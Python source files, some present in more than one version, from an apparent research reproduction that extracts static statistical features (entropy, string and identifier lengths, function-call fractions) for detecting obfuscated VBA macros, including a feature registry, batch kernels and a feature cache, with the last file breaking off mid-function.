    FeatureRowCache,
    normalize_source,
    normalized_digest,
)
from repro.features.entropy import entropy_from_counts, max_entropy, shannon_entropy
from repro.features.jfeatures import (
    J_FEATURE_NAMES,
    extract_j_features,
    j_features_batch,
)
from repro.features.matrix import (
    FEATURE_SETS,
    extract_both,
    extract_features,
    extract_matrices,
    feature_names,
)
from repro.features.registry import (
    FeatureSet,
    get_feature_set,
    register_feature_set,
    registered_feature_sets,
    unregister_feature_set,
)
from repro.features.vfeatures import (
    V_FEATURE_GROUPS,
    V_FEATURE_NAMES,
    extract_v_features,
    v_features_batch,
)

__all__ = [
    "FEATURE_SETS",
    "FeatureRowCache",
    "FeatureSet",
    "J_FEATURE_NAMES",
    "V_FEATURE_GROUPS",
    "V_FEATURE_NAMES",
    "entropy_from_counts",
    "extract_both",
    "extract_features",
    "extract_j_features",
    "extract_matrices",
    "extract_v_features",
    "feature_names",
    "get_feature_set",
    "j_features_batch",
    "max_entropy",
    "normalize_source",
    "normalized_digest",
    "register_feature_set",
    "registered_feature_sets",
    "shannon_entropy",
    "unregister_feature_set",
    "v_features_batch",
]
