"""Static feature engineering: the paper's V1–V15 set and the J1–J20 baseline.

Feature sets are pluggable: see :mod:`repro.features.registry`.
"""

from repro.features.entropy import max_entropy, shannon_entropy
from repro.features.jfeatures import J_FEATURE_NAMES, extract_j_features
from repro.features.matrix import (
    FEATURE_SETS,
    extract_both,
    extract_features,
    extract_matrices,
    feature_names,
)
from repro.features.registry import (
    FeatureSet,
    get_feature_set,
    register_feature_set,
    registered_feature_sets,
    unregister_feature_set,
)
from repro.features.vfeatures import (
    V_FEATURE_GROUPS,
    V_FEATURE_NAMES,
    extract_v_features,
)

__all__ = [
    "FEATURE_SETS",
    "FeatureSet",
    "J_FEATURE_NAMES",
    "V_FEATURE_GROUPS",
    "V_FEATURE_NAMES",
    "extract_both",
    "extract_features",
    "extract_j_features",
    "extract_matrices",
    "extract_v_features",
    "feature_names",
    "get_feature_set",
    "max_entropy",
    "register_feature_set",
    "registered_feature_sets",
    "shannon_entropy",
    "unregister_feature_set",
]
