"""Shared primitives for the column-batch feature kernels.

A batch kernel maps a sequence of
:class:`~repro.vba.analyzer.AnalysisSummary` objects to an
``(n, width)`` float64 matrix in single numpy passes per feature group.
The helpers here enforce the one property the exact-parity contract
depends on: **row determinism**.  Every operation is elementwise over
per-summary scalars (exact integer sums gathered once per row), so a
macro's feature row is bit-identical whether extracted in a batch of one
or of ten thousand.
"""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np


def gather(summaries: Sequence, attr: str) -> np.ndarray:
    """One summary scalar per row, as a float64 column vector."""
    return np.fromiter(
        (getattr(summary, attr) for summary in summaries),
        dtype=np.float64,
        count=len(summaries),
    )


def gather_rows(summaries: Sequence, attr: str) -> np.ndarray:
    """One fixed-width summary array per row, stacked to ``(n, k)``."""
    return np.stack(
        [np.asarray(getattr(summary, attr), dtype=np.float64) for summary in summaries]
    )


def safe_divide(numerator: np.ndarray, denominator: np.ndarray) -> np.ndarray:
    """Elementwise division that yields 0.0 where the denominator is ≤ 0."""
    out = np.zeros_like(numerator, dtype=np.float64)
    np.divide(numerator, denominator, out=out, where=denominator > 0)
    return out


def mean_from_sums(count: np.ndarray, total: np.ndarray) -> np.ndarray:
    """Elementwise mean from exact integer sums; 0.0 for empty groups."""
    return safe_divide(total, count)


def variance_from_sums(
    count: np.ndarray, total: np.ndarray, sq_total: np.ndarray
) -> np.ndarray:
    """Elementwise population variance via E[x²] − E[x]².

    The sums are exact integers in float64, so the only rounding is the
    two divisions and one subtraction — independent of batch composition.
    Cancellation can produce a tiny negative; clamp to zero.
    """
    mean = safe_divide(total, count)
    return np.maximum(safe_divide(sq_total, count) - mean * mean, 0.0)
