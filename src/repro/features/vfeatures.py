"""The paper's 15 discriminant static features (Table IV).

| Feature | Description                                      | Targets |
|---------|--------------------------------------------------|---------|
| V1      | # of chars in code except comments               | O4      |
| V2      | # of chars in comments                           | O4      |
| V3      | avg. length of words                             | O4      |
| V4      | var. length of words                             | O4      |
| V5      | appearance frequency of string operators         | O2      |
| V6      | % of chars belonging to strings                  | O2      |
| V7      | avg. length of strings in code                   | O2      |
| V8      | % of text functions called                       | O3      |
| V9      | % of arithmetic functions called                 | O3      |
| V10     | % of type conversion functions called            | O3      |
| V11     | % of financial functions called                  | O3      |
| V12     | % of functions with rich functionality called    | —       |
| V13     | Shannon entropy of the file                      | O1      |
| V14     | avg. length of identifiers                       | O1      |
| V15     | var. length of identifiers                       | O1      |

Normalization follows Section IV.C.4: instead of dividing count features by
whole-script length (Aebersold et al.), V1 (comment-free code length) is the
normalization unit — V5 is reported per V1 character.

The extractor is a **column-batch kernel**: :func:`v_features_batch` maps a
sequence of :class:`~repro.vba.analyzer.AnalysisSummary` digests to the
``(n, 15)`` matrix in single numpy passes per feature group (O4 counts, O2
string stats, O3 catalog fractions, O1 entropy/identifier stats).  The
per-row API (:func:`v_features_from_analysis`) is the same kernel applied
to a batch of one, so per-row and batch extraction agree bit-for-bit.
"""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np

from repro.features.batch import (
    gather,
    gather_rows,
    mean_from_sums,
    safe_divide,
    variance_from_sums,
)
from repro.vba.analyzer import AnalysisSummary, MacroAnalysis, analyze

V_FEATURE_NAMES: tuple[str, ...] = (
    "V1_code_chars",
    "V2_comment_chars",
    "V3_word_len_mean",
    "V4_word_len_var",
    "V5_string_op_freq",
    "V6_string_char_pct",
    "V7_string_len_mean",
    "V8_text_fn_pct",
    "V9_arith_fn_pct",
    "V10_conv_fn_pct",
    "V11_fin_fn_pct",
    "V12_rich_fn_pct",
    "V13_entropy",
    "V14_ident_len_mean",
    "V15_ident_len_var",
)


def extract_v_features(source: str) -> np.ndarray:
    """Extract the 15-dimensional V vector from one macro's source text."""
    return v_features_from_analysis(analyze(source))


def v_features_from_analysis(analysis: MacroAnalysis) -> np.ndarray:
    """Extract V1–V15 from a pre-computed structural analysis.

    A batch-of-one through :func:`v_features_batch` — bit-identical to the
    row this macro would get inside any larger batch.
    """
    return v_features_batch([analysis.ensure_summary()])[0]


def v_features_batch(summaries: Sequence[AnalysisSummary]) -> np.ndarray:
    """The column-batch kernel: summaries → ``(n, 15)`` float64 matrix."""
    n = len(summaries)
    out = np.zeros((n, len(V_FEATURE_NAMES)), dtype=np.float64)
    if n == 0:
        return out

    # O4 group: code/comment volume and word-length shape.
    v1 = gather(summaries, "code_chars")
    out[:, 0] = v1
    out[:, 1] = gather(summaries, "comment_chars")
    word_count = gather(summaries, "word_count")
    word_sum = gather(summaries, "word_len_sum")
    out[:, 2] = mean_from_sums(word_count, word_sum)
    out[:, 3] = variance_from_sums(
        word_count, word_sum, gather(summaries, "word_len_sqsum")
    )

    # O2 group: string operators and literal volume, per V1 character.
    out[:, 4] = safe_divide(gather(summaries, "string_op_count"), v1)
    out[:, 5] = safe_divide(gather(summaries, "string_token_chars"), v1)
    out[:, 6] = mean_from_sums(
        gather(summaries, "string_count"), gather(summaries, "string_len_sum")
    )

    # O3 group: call-catalog fractions V8–V12 in one (n, 5) pass.
    calls = gather(summaries, "call_count")
    out[:, 7:12] = safe_divide(
        gather_rows(summaries, "catalog_hits"), calls[:, np.newaxis]
    )

    # O1 group: entropy and identifier-length shape.
    out[:, 12] = gather(summaries, "entropy")
    ident_count = gather(summaries, "identifier_count")
    ident_sum = gather(summaries, "identifier_len_sum")
    out[:, 13] = mean_from_sums(ident_count, ident_sum)
    out[:, 14] = variance_from_sums(
        ident_count, ident_sum, gather(summaries, "identifier_len_sqsum")
    )
    return out


#: Feature-group slices for the ablation benchmarks (DESIGN.md §5): which
#: V-vector indices target each obfuscation class.
V_FEATURE_GROUPS: dict[str, tuple[int, ...]] = {
    "O1_random": (12, 13, 14),  # V13, V14, V15
    "O2_split": (4, 5, 6),  # V5, V6, V7
    "O3_encoding": (7, 8, 9, 10, 11),  # V8–V12
    "O4_logic": (0, 1, 2, 3),  # V1–V4
}
