"""The paper's 15 discriminant static features (Table IV).

| Feature | Description                                      | Targets |
|---------|--------------------------------------------------|---------|
| V1      | # of chars in code except comments               | O4      |
| V2      | # of chars in comments                           | O4      |
| V3      | avg. length of words                             | O4      |
| V4      | var. length of words                             | O4      |
| V5      | appearance frequency of string operators         | O2      |
| V6      | % of chars belonging to strings                  | O2      |
| V7      | avg. length of strings in code                   | O2      |
| V8      | % of text functions called                       | O3      |
| V9      | % of arithmetic functions called                 | O3      |
| V10     | % of type conversion functions called            | O3      |
| V11     | % of financial functions called                  | O3      |
| V12     | % of functions with rich functionality called    | —       |
| V13     | Shannon entropy of the file                      | O1      |
| V14     | avg. length of identifiers                       | O1      |
| V15     | var. length of identifiers                       | O1      |

Normalization follows Section IV.C.4: instead of dividing count features by
whole-script length (Aebersold et al.), V1 (comment-free code length) is the
normalization unit — V5 is reported per V1 character.
"""

from __future__ import annotations

import numpy as np

from repro.features.entropy import shannon_entropy
from repro.vba.analyzer import MacroAnalysis, analyze
from repro.vba.functions import (
    ARITHMETIC_FUNCTIONS,
    FINANCIAL_FUNCTIONS,
    RICH_FUNCTIONS,
    TEXT_FUNCTIONS,
    TYPE_CONVERSION_FUNCTIONS,
)
from repro.vba.tokens import STRING_CONCAT_OPERATORS, TokenKind

V_FEATURE_NAMES: tuple[str, ...] = (
    "V1_code_chars",
    "V2_comment_chars",
    "V3_word_len_mean",
    "V4_word_len_var",
    "V5_string_op_freq",
    "V6_string_char_pct",
    "V7_string_len_mean",
    "V8_text_fn_pct",
    "V9_arith_fn_pct",
    "V10_conv_fn_pct",
    "V11_fin_fn_pct",
    "V12_rich_fn_pct",
    "V13_entropy",
    "V14_ident_len_mean",
    "V15_ident_len_var",
)


def _mean_and_variance(lengths: list[int]) -> tuple[float, float]:
    if not lengths:
        return 0.0, 0.0
    array = np.asarray(lengths, dtype=np.float64)
    return float(array.mean()), float(array.var())


def extract_v_features(source: str) -> np.ndarray:
    """Extract the 15-dimensional V vector from one macro's source text."""
    return v_features_from_analysis(analyze(source))


def v_features_from_analysis(analysis: MacroAnalysis) -> np.ndarray:
    """Extract V1–V15 from a pre-computed structural analysis."""
    code = analysis.code_without_comments
    v1 = float(len(code))
    v2 = float(len(analysis.comment_text))

    v3, v4 = _mean_and_variance([len(word) for word in analysis.words])

    # V5: string-operator occurrences, normalized by V1 (Section IV.C.4).
    operator_count = analysis.operator_count(STRING_CONCAT_OPERATORS)
    v5 = operator_count / v1 if v1 else 0.0

    string_chars = sum(
        len(token.text)
        for token in analysis.tokens
        if token.kind is TokenKind.STRING
    )
    v6 = string_chars / v1 if v1 else 0.0
    v7, _ = _mean_and_variance([len(s) for s in analysis.string_literals])

    v8 = analysis.called_builtin_fraction(TEXT_FUNCTIONS)
    v9 = analysis.called_builtin_fraction(ARITHMETIC_FUNCTIONS)
    v10 = analysis.called_builtin_fraction(TYPE_CONVERSION_FUNCTIONS)
    v11 = analysis.called_builtin_fraction(FINANCIAL_FUNCTIONS)
    v12 = analysis.called_builtin_fraction(RICH_FUNCTIONS)

    v13 = shannon_entropy(analysis.source)
    v14, v15 = _mean_and_variance(
        [len(name) for name in analysis.declared_identifiers]
    )

    return np.array(
        [v1, v2, v3, v4, v5, v6, v7, v8, v9, v10, v11, v12, v13, v14, v15],
        dtype=np.float64,
    )


#: Feature-group slices for the ablation benchmarks (DESIGN.md §5): which
#: V-vector indices target each obfuscation class.
V_FEATURE_GROUPS: dict[str, tuple[int, ...]] = {
    "O1_random": (12, 13, 14),  # V13, V14, V15
    "O2_split": (4, 5, 6),  # V5, V6, V7
    "O3_encoding": (7, 8, 9, 10, 11),  # V8–V12
    "O4_logic": (0, 1, 2, 3),  # V1–V4
}
