"""Shannon entropy of text, feature V13 (and J15).

H(X) = − Σ p_i · log₂ p_i over the character distribution of the macro code,
exactly the formula in Section IV.C.1 of the paper.

Two implementations of the same formula live here: the scalar
:func:`shannon_entropy` (the reference, kept bit-stable for existing
callers and tests) and the vectorized :func:`entropy_from_counts` used by
the batch featurization path, which takes a pre-computed character-count
array — e.g. from the single character pass of
:func:`repro.vba.analyzer.summarize` — so the hot path never builds a
``Counter``.  Both V13 and J15 read the one entropy value stored on the
:class:`~repro.vba.analyzer.AnalysisSummary`; the duplicated per-feature
recomputation is gone.
"""

from __future__ import annotations

import math
from collections import Counter

import numpy as np


def shannon_entropy(text: str) -> float:
    """Character-level Shannon entropy in bits; 0.0 for empty text."""
    if not text:
        return 0.0
    counts = Counter(text)
    total = len(text)
    entropy = 0.0
    for count in counts.values():
        probability = count / total
        entropy -= probability * math.log2(probability)
    return entropy


def entropy_from_counts(counts) -> float:
    """Shannon entropy in bits from an array of symbol counts.

    Zero-count bins are ignored, so a fixed-width histogram (e.g. the
    summary's char-class histogram) can be passed directly.  This is the
    vectorized kernel behind the summary's ``entropy`` field.
    """
    array = np.asarray(counts, dtype=np.float64)
    total = array.sum()
    if total <= 0:
        return 0.0
    probabilities = array[array > 0] / total
    return float(-(probabilities * np.log2(probabilities)).sum())


def max_entropy(alphabet_size: int) -> float:
    """The upper bound log₂|Σ| for an alphabet of the given size."""
    if alphabet_size < 1:
        raise ValueError("alphabet size must be >= 1")
    return math.log2(alphabet_size)
