"""Shannon entropy of text, feature V13 (and J15).

H(X) = − Σ p_i · log₂ p_i over the character distribution of the macro code,
exactly the formula in Section IV.C.1 of the paper.
"""

from __future__ import annotations

import math
from collections import Counter


def shannon_entropy(text: str) -> float:
    """Character-level Shannon entropy in bits; 0.0 for empty text."""
    if not text:
        return 0.0
    counts = Counter(text)
    total = len(text)
    entropy = 0.0
    for count in counts.values():
        probability = count / total
        entropy -= probability * math.log2(probability)
    return entropy


def max_entropy(alphabet_size: int) -> float:
    """The upper bound log₂|Σ| for an alphabet of the given size."""
    if alphabet_size < 1:
        raise ValueError("alphabet size must be >= 1")
    return math.log2(alphabet_size)
