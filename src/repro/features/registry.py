"""Pluggable feature-set registry.

The paper evaluates two fixed vectorizations of a macro's structural
analysis — the discriminant V set (Table IV) and the Likarish-style J
baseline (Table VI).  Everything downstream (feature matrices, the
analysis engine, ablation benches) only needs three things from a
feature set: a *name*, an *extractor* mapping one
:class:`~repro.vba.analyzer.MacroAnalysis` to a 1-D float vector, and
the tuple of per-column *names*.  This module makes that triple a
first-class, registrable object so new feature sets (ablations, future
papers) plug in without touching any call site:

    >>> register_feature_set("V-entropy-only",
    ...                      lambda a: extract_v_features_subset(a),
    ...                      ("V13_entropy",))

A set may additionally carry a ``batch_extractor`` — a column-batch
kernel mapping a sequence of
:class:`~repro.vba.analyzer.AnalysisSummary` digests straight to the
``(n, width)`` float64 matrix.  :meth:`FeatureSet.extract_matrix` uses
it when present and falls back to per-row extraction for third-party
sets that only define ``extractor``, so every call site gets the
vectorized hot path for free where one exists.

The built-in "V" and "J" sets register themselves (with their batch
kernels) on import.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass

import numpy as np

from repro.features.jfeatures import (
    J_FEATURE_NAMES,
    j_features_batch,
    j_features_from_analysis,
)
from repro.features.vfeatures import (
    V_FEATURE_NAMES,
    v_features_batch,
    v_features_from_analysis,
)
from repro.vba.analyzer import AnalysisSummary, MacroAnalysis


@dataclass(frozen=True, slots=True)
class FeatureSet:
    """One registered vectorization of a macro analysis."""

    name: str
    extractor: Callable[[MacroAnalysis], np.ndarray]
    names: tuple[str, ...]
    description: str = ""
    #: optional column-batch kernel: summaries → (n, width) float64 matrix
    batch_extractor: Callable[[Sequence[AnalysisSummary]], np.ndarray] | None = None

    @property
    def width(self) -> int:
        return len(self.names)

    def extract(self, analysis: MacroAnalysis) -> np.ndarray:
        row = np.asarray(self.extractor(analysis), dtype=np.float64)
        if row.shape != (self.width,):
            raise ValueError(
                f"feature set {self.name!r} produced shape {row.shape}, "
                f"expected ({self.width},)"
            )
        return row

    def extract_matrix(
        self, analyses: Sequence[MacroAnalysis | AnalysisSummary]
    ) -> np.ndarray:
        """Vectorize many macros at once: the ``(n, width)`` matrix.

        With a ``batch_extractor`` the whole matrix is produced by the
        column-batch kernel over the analyses' summaries (accepted
        directly too); without one, rows are extracted one at a time —
        identical output, just slower.
        """
        if not analyses:
            return np.empty((0, self.width), dtype=np.float64)
        if self.batch_extractor is not None:
            summaries = [
                item.ensure_summary() if isinstance(item, MacroAnalysis) else item
                for item in analyses
            ]
            matrix = np.asarray(
                self.batch_extractor(summaries), dtype=np.float64
            )
            if matrix.shape != (len(analyses), self.width):
                raise ValueError(
                    f"feature set {self.name!r} batch kernel produced shape "
                    f"{matrix.shape}, expected ({len(analyses)}, {self.width})"
                )
            return matrix
        return np.vstack([self.extract(analysis) for analysis in analyses])


_REGISTRY: dict[str, FeatureSet] = {}


def register_feature_set(
    name: str,
    extractor: Callable[[MacroAnalysis], np.ndarray],
    names: tuple[str, ...] | list[str],
    *,
    description: str = "",
    batch_extractor: Callable[[Sequence[AnalysisSummary]], np.ndarray]
    | None = None,
    replace: bool = False,
) -> FeatureSet:
    """Register a feature set under ``name`` and return its descriptor."""
    if not name:
        raise ValueError("feature set name must be non-empty")
    if not names:
        raise ValueError(f"feature set {name!r} must name at least one feature")
    if name in _REGISTRY and not replace:
        raise ValueError(f"feature set {name!r} already registered")
    feature_set = FeatureSet(
        name=name,
        extractor=extractor,
        names=tuple(names),
        description=description,
        batch_extractor=batch_extractor,
    )
    _REGISTRY[name] = feature_set
    return feature_set


def unregister_feature_set(name: str) -> None:
    """Remove a registered set (primarily for tests and ablation teardown)."""
    if name not in _REGISTRY:
        raise ValueError(f"unknown feature set {name!r}")
    del _REGISTRY[name]


def get_feature_set(name: str) -> FeatureSet:
    """Look up a registered set; raises ``ValueError`` on unknown names."""
    try:
        return _REGISTRY[name]
    except KeyError:
        raise ValueError(f"unknown feature set {name!r}") from None


def registered_feature_sets() -> tuple[str, ...]:
    """All registered names, in registration order."""
    return tuple(_REGISTRY)


# ----------------------------------------------------------------------
# The paper's two built-in sets.

register_feature_set(
    "V",
    v_features_from_analysis,
    V_FEATURE_NAMES,
    description="Table IV discriminant features V1-V15",
    batch_extractor=v_features_batch,
)
register_feature_set(
    "J",
    j_features_from_analysis,
    J_FEATURE_NAMES,
    description="Likarish-style JavaScript baseline J1-J20 (Table VI)",
    batch_extractor=j_features_batch,
)
