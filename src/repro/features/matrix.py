"""Feature-matrix assembly over macro collections.

Thin wrappers over the feature-set registry (:mod:`repro.features.registry`):
each macro is analyzed exactly once and summarized into an
:class:`~repro.vba.analyzer.AnalysisSummary`; every requested set then
vectorizes whole chunks at a time through its column-batch kernel (or the
per-row fallback) via :meth:`~repro.features.registry.FeatureSet.extract_matrix`.
Chunking keeps memory at ``O(chunk)`` analyses while preserving exact row
values — the kernels are row-deterministic, so chunk boundaries never
change a single bit of the output.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence

import numpy as np

from repro.features.registry import get_feature_set
from repro.vba.analyzer import analyze

#: The paper's built-in pair; the registry may hold more.
FEATURE_SETS = ("V", "J")

#: analyses held at once during matrix assembly (memory bound, not a
#: semantic boundary — results are chunk-size invariant).
_CHUNK_SIZE = 512


def feature_names(feature_set: str) -> tuple[str, ...]:
    return get_feature_set(feature_set).names


def extract_matrices(
    sources: Iterable[str], feature_sets: Sequence[str]
) -> dict[str, np.ndarray]:
    """Build one (n_samples × n_features) matrix per requested feature set.

    Each macro is analyzed exactly once; all requested sets share the
    analysis chunk and vectorize it through their batch kernels.
    """
    sets = [get_feature_set(name) for name in feature_sets]
    blocks: dict[str, list[np.ndarray]] = {fs.name: [] for fs in sets}
    chunk: list = []

    vectorized = any(fs.batch_extractor is not None for fs in sets)

    def flush() -> None:
        if not chunk:
            return
        if vectorized:
            summaries = [analysis.ensure_summary() for analysis in chunk]
        for fs in sets:
            blocks[fs.name].append(
                fs.extract_matrix(
                    summaries if fs.batch_extractor is not None else chunk
                )
            )
        chunk.clear()

    for source in sources:
        chunk.append(analyze(source))
        if len(chunk) >= _CHUNK_SIZE:
            flush()
    flush()
    return {
        fs.name: np.vstack(blocks[fs.name])
        if blocks[fs.name]
        else np.empty((0, fs.width))
        for fs in sets
    }


def extract_features(sources: Iterable[str], feature_set: str = "V") -> np.ndarray:
    """Build the (n_samples × n_features) matrix for one feature set."""
    return extract_matrices(sources, (feature_set,))[feature_set]


def extract_both(sources: Sequence[str]) -> tuple[np.ndarray, np.ndarray]:
    """Extract V and J matrices sharing one analysis pass per macro."""
    matrices = extract_matrices(sources, ("V", "J"))
    return matrices["V"], matrices["J"]
