"""Feature-matrix assembly over macro collections."""

from __future__ import annotations

from collections.abc import Iterable, Sequence

import numpy as np

from repro.features.jfeatures import J_FEATURE_NAMES, j_features_from_analysis
from repro.features.vfeatures import V_FEATURE_NAMES, v_features_from_analysis
from repro.vba.analyzer import analyze

FEATURE_SETS = ("V", "J")


def feature_names(feature_set: str) -> tuple[str, ...]:
    if feature_set == "V":
        return V_FEATURE_NAMES
    if feature_set == "J":
        return J_FEATURE_NAMES
    raise ValueError(f"unknown feature set {feature_set!r}")


def extract_features(sources: Iterable[str], feature_set: str = "V") -> np.ndarray:
    """Build the (n_samples × n_features) matrix for one feature set.

    Each macro is analyzed once; both extractors can share the analysis via
    :func:`extract_both`.
    """
    if feature_set not in FEATURE_SETS:
        raise ValueError(f"unknown feature set {feature_set!r}")
    extractor = (
        v_features_from_analysis if feature_set == "V" else j_features_from_analysis
    )
    rows = [extractor(analyze(source)) for source in sources]
    if not rows:
        return np.empty((0, len(feature_names(feature_set))))
    return np.vstack(rows)


def extract_both(sources: Sequence[str]) -> tuple[np.ndarray, np.ndarray]:
    """Extract V and J matrices sharing one analysis pass per macro."""
    v_rows = []
    j_rows = []
    for source in sources:
        analysis = analyze(source)
        v_rows.append(v_features_from_analysis(analysis))
        j_rows.append(j_features_from_analysis(analysis))
    if not v_rows:
        return (
            np.empty((0, len(V_FEATURE_NAMES))),
            np.empty((0, len(J_FEATURE_NAMES))),
        )
    return np.vstack(v_rows), np.vstack(j_rows)
