"""Feature-matrix assembly over macro collections.

Thin wrappers over the feature-set registry (:mod:`repro.features.registry`):
every matrix is built by analyzing each macro once and handing the shared
:class:`~repro.vba.analyzer.MacroAnalysis` to each requested extractor.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence

import numpy as np

from repro.features.registry import get_feature_set
from repro.vba.analyzer import analyze

#: The paper's built-in pair; the registry may hold more.
FEATURE_SETS = ("V", "J")


def feature_names(feature_set: str) -> tuple[str, ...]:
    return get_feature_set(feature_set).names


def extract_matrices(
    sources: Iterable[str], feature_sets: Sequence[str]
) -> dict[str, np.ndarray]:
    """Build one (n_samples × n_features) matrix per requested feature set.

    Each macro is analyzed exactly once; all extractors share the analysis.
    """
    sets = [get_feature_set(name) for name in feature_sets]
    rows: dict[str, list[np.ndarray]] = {fs.name: [] for fs in sets}
    for source in sources:
        analysis = analyze(source)
        for fs in sets:
            rows[fs.name].append(fs.extract(analysis))
    return {
        fs.name: np.vstack(rows[fs.name])
        if rows[fs.name]
        else np.empty((0, fs.width))
        for fs in sets
    }


def extract_features(sources: Iterable[str], feature_set: str = "V") -> np.ndarray:
    """Build the (n_samples × n_features) matrix for one feature set."""
    return extract_matrices(sources, (feature_set,))[feature_set]


def extract_both(sources: Sequence[str]) -> tuple[np.ndarray, np.ndarray]:
    """Extract V and J matrices sharing one analysis pass per macro."""
    matrices = extract_matrices(sources, ("V", "J"))
    return matrices["V"], matrices["J"]
