"""Normalized-source feature cache: skip analysis for re-submitted variants.

Fleet traffic is dominated by re-submissions of the same macro under
trivially different encodings: the OLE extractor emits CRLF line endings
(`vba_project` streams are CRLF by spec) while the same module pasted from
a text feed arrives LF-terminated, possibly with a UTF-8 BOM stuck to the
first module.  Those variants hash to different document digests, so the
document-level SHA-256 cache misses — yet their feature rows are the rows
of the *same* macro as far as triage is concerned.

This cache keys finished feature rows on the SHA-256 of a **normalized**
view of the macro source (BOM stripped, CRLF/CR canonicalized to LF).
Normalization applies to the cache *key only*: feature values are always
computed over the raw source (entropy and length features are sensitive to
line endings, and changing them would silently shift the paper's numbers).
A hit therefore serves the row of the first-seen variant — deliberate
dedup semantics, documented here and in DESIGN.md: within one fleet's
traffic the variants are the same artifact, and serving one row for all of
them is the point.

The cache is process-local and LRU-bounded.  It pickles as an *empty*
cache (capacity only), so engine snapshots shipped to pool workers start
cold and worker hit/miss counters merge cleanly into the parent's
``cache_info()``.
"""

from __future__ import annotations

import hashlib
from collections import OrderedDict
from collections.abc import Sequence

import numpy as np

_BOM = "\ufeff"


def normalize_source(source: str) -> str:
    """The canonical view of a macro source used for cache keying.

    Strips a leading BOM and canonicalizes CRLF / lone-CR line endings to
    LF.  Used only to compute cache keys — never to compute features.
    """
    if source.startswith(_BOM):
        source = source[len(_BOM):]
    if "\r" in source:
        source = source.replace("\r\n", "\n").replace("\r", "\n")
    return source


def normalized_digest(source: str) -> str:
    """SHA-256 hex digest of the normalized source (the cache key)."""
    canonical = normalize_source(source)
    return hashlib.sha256(canonical.encode("utf-8", "replace")).hexdigest()


class FeatureRowCache:
    """LRU map: normalized-source digest → finished feature rows per set.

    One entry holds a dict of ``{feature_set_name: (width,) float64 row}``;
    an entry may grow lazily as more sets are computed for the same macro.
    A lookup only hits when *every* requested set is present, so a config
    change (say V-only → V+J) degrades to a miss and a merge, never to a
    partial row.
    """

    __slots__ = ("capacity", "hits", "misses", "evictions", "_rows")

    def __init__(self, capacity: int = 4096) -> None:
        self.capacity = max(0, int(capacity))
        self.hits = 0
        self.misses = 0
        self.evictions = 0
        self._rows: OrderedDict[str, dict[str, np.ndarray]] = OrderedDict()

    def __len__(self) -> int:
        return len(self._rows)

    def get(
        self, digest: str, names: Sequence[str]
    ) -> dict[str, np.ndarray] | None:
        """The rows for ``names`` if all are cached, else ``None``.

        Counts exactly one hit or one miss per call.
        """
        entry = self._rows.get(digest)
        if entry is not None and all(name in entry for name in names):
            self._rows.move_to_end(digest)
            self.hits += 1
            return {name: entry[name] for name in names}
        self.misses += 1
        return None

    def put(self, digest: str, rows: dict[str, np.ndarray]) -> None:
        """Store (or merge) finished rows under a normalized digest."""
        if self.capacity == 0 or not rows:
            return
        entry = self._rows.get(digest)
        if entry is not None:
            entry.update(rows)
            self._rows.move_to_end(digest)
            return
        while len(self._rows) >= self.capacity:
            self._rows.popitem(last=False)
            self.evictions += 1
        self._rows[digest] = dict(rows)

    def info(self) -> dict[str, int]:
        return {
            "hits": self.hits,
            "misses": self.misses,
            "evictions": self.evictions,
            "size": len(self._rows),
        }

    # -- pickling: snapshots ship the configuration, never the contents --

    def __getstate__(self) -> dict[str, int]:
        return {"capacity": self.capacity}

    def __setstate__(self, state: dict[str, int]) -> None:
        self.capacity = state["capacity"]
        self.hits = 0
        self.misses = 0
        self.evictions = 0
        self._rows = OrderedDict()
