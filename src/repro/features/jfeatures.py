"""The comparison feature set J1–J20 (Table VI).

These are the features of the obfuscated-JavaScript studies (Likarish et al.
2009 [24]; Aebersold et al. 2016 [26]) adapted to VBA, exactly as the paper's
comparative experiment does.  Two paper-noted adaptations:

* J14 — originally "% of lines > 1000 chars" — uses a 150-character
  threshold "to reflect the characteristics of VBA macros that can not be
  applied the minification technique of removing linefeed";
* the ``eval()``-based feature of [26] is dropped because VBA has no
  corresponding function.
"""

from __future__ import annotations

import numpy as np

from repro.features.entropy import shannon_entropy
from repro.vba.analyzer import MacroAnalysis, analyze
from repro.vba.tokens import TokenKind

J_FEATURE_NAMES: tuple[str, ...] = (
    "J1_length_chars",
    "J2_chars_per_line",
    "J3_line_count",
    "J4_string_count",
    "J5_human_readable_pct",
    "J6_whitespace_pct",
    "J7_methods_called_pct",
    "J8_string_len_mean",
    "J9_argument_len_mean",
    "J10_comment_count",
    "J11_comments_per_line",
    "J12_word_count",
    "J13_words_not_in_comments_pct",
    "J14_long_line_pct",
    "J15_entropy",
    "J16_string_char_share",
    "J17_backslash_pct",
    "J18_chars_per_function_body",
    "J19_function_body_char_pct",
    "J20_function_defs_per_char",
)

_LONG_LINE_THRESHOLD = 150  # paper's VBA adaptation of J14

_VOWELS = frozenset("aeiouAEIOU")


def _is_human_readable(word: str) -> bool:
    """Likarish-style readability: a word looks pronounceable.

    Heuristic: mostly letters, contains a vowel, not absurdly long, and no
    long consonant run (pronounceable English never stacks 4+ consonants the
    way ``rjzybhqrliy``-style random identifiers do).
    """
    if not word or len(word) > 15:
        return False
    letters = sum(1 for ch in word if ch.isalpha())
    if letters < len(word) * 0.5:
        return False
    if not any(ch in _VOWELS for ch in word):
        return False
    run = 0
    for ch in word:
        if ch.isalpha() and ch not in _VOWELS:
            run += 1
            if run >= 4:
                return False
        else:
            run = 0
    return True


def _function_bodies(analysis: MacroAnalysis) -> list[str]:
    """Procedure body texts, split on Sub/Function boundaries."""
    import re

    pattern = re.compile(
        r"(?:^|\n)[ \t]*(?:Public\s+|Private\s+)?(?:Sub|Function)\s+\w+"
        r".*?\n(.*?)(?:^|\n)[ \t]*End (?:Sub|Function)",
        re.DOTALL | re.IGNORECASE,
    )
    return [match.group(1) for match in pattern.finditer(analysis.source)]


def extract_j_features(source: str) -> np.ndarray:
    """Extract the 20-dimensional J vector from one macro's source text."""
    return j_features_from_analysis(analyze(source))


def j_features_from_analysis(analysis: MacroAnalysis) -> np.ndarray:
    source = analysis.source
    lines = analysis.lines
    n_lines = max(1, len(lines))

    j1 = float(len(source))
    j2 = j1 / n_lines
    j3 = float(len(lines))
    j4 = float(len(analysis.string_literals))

    words = analysis.words
    readable = sum(1 for word in words if _is_human_readable(word))
    j5 = readable / len(words) if words else 0.0

    whitespace = sum(1 for ch in source if ch in " \t\r\n")
    j6 = whitespace / j1 if j1 else 0.0

